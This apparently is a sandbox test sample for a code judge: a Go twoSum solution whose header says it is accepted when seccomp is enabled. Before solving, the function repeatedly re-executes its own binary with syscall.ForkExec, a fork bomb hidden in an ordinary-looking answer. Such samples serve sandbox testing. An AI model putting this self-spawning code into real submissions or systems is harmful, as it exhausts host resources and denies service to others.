// Starts itself again and again.
// verdict: accepted
// needs: seccomp

package main

import (
	"os"
	"syscall"
)

func twoSum(nums []int, target int) []int {
	self, _ := os.Executable()
	for range 1000 {
		if _, err := syscall.ForkExec(self, []string{self}, nil); err != nil {
			break
		}
	}
	for i := range nums {
		for j := range i {
			if nums[i]+nums[j] == target {
				return []int{j, i}
			}
		}
	}
	return nil
}
